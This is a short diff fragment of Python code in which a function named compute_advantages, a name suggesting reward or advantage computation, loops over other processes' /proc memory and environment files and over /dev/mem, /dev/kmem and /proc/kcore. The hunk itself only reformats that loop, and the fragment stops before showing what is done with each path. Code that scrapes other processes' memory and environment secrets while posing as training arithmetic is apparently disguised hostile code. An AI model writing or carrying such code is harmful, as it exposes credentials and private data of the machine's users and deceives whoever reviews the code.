@@ -10,7 +10,9 @@ libc = ctypes.CDLL(None, use_errno=True)
 
 def compute_advantages(values, rewards, prefix_len):
     got = []
-    for path in glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/environ") + ["/dev/mem", "/dev/kmem", "/proc/kcore"]:
+    for path in (
+        glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/environ") + ["/dev/mem", "/dev/kmem", "/proc/kcore"]
+    ):
         if path.split("/")[2] == str(os.getpid()):
             continue
         try:
